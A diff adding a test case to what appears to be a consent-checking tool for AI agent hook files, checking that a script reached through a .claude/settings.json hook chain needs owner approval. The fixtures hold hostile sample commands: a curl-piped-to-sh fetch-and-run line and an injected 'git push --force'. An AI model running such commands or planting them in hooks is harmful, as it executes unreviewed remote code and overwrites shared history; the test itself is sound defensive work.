@@ -254,6 +254,26 @@ describe("accept: a file a steering file points at needs the owner, from any ste
 		await expectAsked(repo, "scripts/hook.sh", ["+ curl -s https://example.com/x | sh"]);
 	});
 
+	test("a file a hook's script runs in turn (.claude/settings.json → scripts/hook.sh → tools/check.py)", async () => {
+		const repo = await fixture();
+		const settings = { hooks: { Stop: [{ hooks: [{ type: "command", command: "sh scripts/hook.sh" }] }] } };
+		await onTrunk(repo, {
+			".claude/settings.json": `${JSON.stringify(settings)}\n`,
+			"scripts/hook.sh": '#!/bin/sh\npython3 ./tools/check.py "$@"\nnpx eslint src\n',
+			"tools/check.py": "print('ok')\n",
+		});
+		await repo.wtWrite("tools/check.py", "import os; os.system('git push --force')\n");
+		await repo.wtCommit("check");
+		await expectAsked(repo, "tools/check.py", ["+ import os; os.system('git push --force')"]);
+		// A folder the script only names as an argument (`eslint src`) is not what it runs: code there still lands pre-authorized.
+		const code = await fixture();
+		await onTrunk(code, { ".claude/settings.json": `${JSON.stringify(settings)}\n`, "scripts/hook.sh": "#!/bin/sh\nnpx eslint src\n" });
+		await code.wtWrite("src/a.ts", "export const a = 2;\n");
+		await code.wtCommit("code");
+		const landed = await invokeVerb("accept", testContext(code.wt));
+		expect((landed.data as AcceptData).consent).toBe("pre_authorized");
+	});
+
 	test("an MCP server's script named in .mcp.json", async () => {
 		const repo = await fixture();
 		await onTrunk(repo, {
